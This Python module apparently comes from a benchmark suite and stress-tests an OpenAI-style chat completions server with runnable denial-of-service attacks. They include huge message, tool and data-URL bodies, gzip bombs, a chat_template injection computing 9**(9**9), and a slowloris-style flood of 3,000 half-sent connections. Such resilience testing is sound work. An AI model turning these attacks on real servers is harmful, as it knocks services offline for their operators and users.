"""Attacks by bodies, heads and connections of HTTP."""

from __future__ import annotations

import asyncio
import base64
import gzip
import json
from collections.abc import Awaitable, Callable
from contextlib import suppress
from functools import partial
from typing import Any
from urllib.parse import urlsplit

import numpy as np

from benchmarks.attacks.target import Target, keep_posting

_MIB = 1024 * 1024
CHAT = "/v1/chat/completions"
_NUM_HALF_SENT = 3000
_ATTACKER = "127.0.0.2"


def posting(
    target: Target, body: bytes, in_flight: int, path: str = CHAT, headers: dict[str, str] | None = None
) -> Callable[[], Awaitable[None]]:
    return partial(keep_posting, target, path, lambda: body, in_flight, headers)


def chat_body(target: Target, content: Any, **fields: Any) -> bytes:
    messages = [{"role": "user", "content": content}]
    return json.dumps({"model": target.model, "messages": messages, "max_tokens": 1} | fields).encode()


def data_url(file: bytes, kind: str) -> str:
    return f"data:{kind};base64,{base64.b64encode(file).decode()}"


def _noise_url(nbytes: int) -> str:
    """A data: URL of so many characters, which is said to be a picture."""
    return data_url(np.random.default_rng(0).integers(0, 256, nbytes // 4 * 3, dtype=np.uint8).tobytes(), "image/png")


def picture_parts(*urls: str) -> list[dict[str, Any]]:
    return [{"type": "image_url", "image_url": {"url": url}} for url in urls]


def text(target: Target) -> Callable[[], Awaitable[None]]:
    """Two clients with chats of 8 MiB."""
    return posting(target, chat_body(target, "What is this? " * (8 * _MIB // 14)), 2)


def messages(target: Target) -> Callable[[], Awaitable[None]]:
    """Two clients with 100,000 messages."""
    body = {"model": target.model, "messages": [{"role": "user", "content": "a"}] * 100_000}
    return posting(target, json.dumps(body).encode(), 2)


def tools(target: Target) -> Callable[[], Awaitable[None]]:
    """Two clients with 5 MB of tools."""
    schema = {"type": "object", "properties": {f"field_{index}": {"type": "string"} for index in range(150_000)}}
    tool = {"type": "function", "function": {"name": "f", "parameters": schema}}
    return posting(target, chat_body(target, "Hello", tools=[tool]), 2)


def bodies(target: Target) -> Callable[[], Awaitable[None]]:
    """Eight clients with bodies of 200 MiB, each a data: URL."""
    return posting(target, chat_body(target, picture_parts(_noise_url(200 * _MIB))), 8)


def data_urls(target: Target) -> Callable[[], Awaitable[None]]:
    """Two clients with a data: URL of 60 MB."""
    return posting(target, chat_body(target, picture_parts(_noise_url(60_000_000))), 2)


def gzip_bodies(target: Target) -> Callable[[], Awaitable[None]]:
    """Six clients with gzip bodies that are 250 MiB unpacked."""
    body = gzip.compress(b'{"a":"' + b"a" * (250 * _MIB) + b'"}', 6)
    return posting(target, body, 6, headers={"Content-Encoding": "gzip"})


def template(target: Target) -> Callable[[], Awaitable[None]]:
    """Two clients whose chat template, which the worker trusts, computes a number for ever."""
    return posting(target, chat_body(target, "Hello", chat_template="{{ 9**(9**9) }}"), 2)


def half_sent(target: Target) -> Callable[[], Awaitable[None]]:
    """3,000 connections that send half of a head, and begin again where they are closed."""
    address = urlsplit(target.url)

    async def client() -> None:
        while True:
            with suppress(OSError):
                reader, writer = await asyncio.open_connection(
                    address.hostname, address.port, local_addr=(_ATTACKER, 0)
                )
                writer.write(b"POST /v1/chat/completions HTTP/1.1\r\nHost: a\r\n")
                target.outcomes["connected"] += 1
                try:
                    await reader.read()
                finally:
                    writer.close()
            target.outcomes["closed"] += 1
            await asyncio.sleep(1.0)

    async def attack() -> None:
        async with asyncio.TaskGroup() as group:
            for _ in range(_NUM_HALF_SENT):
                group.create_task(client())

    return attack
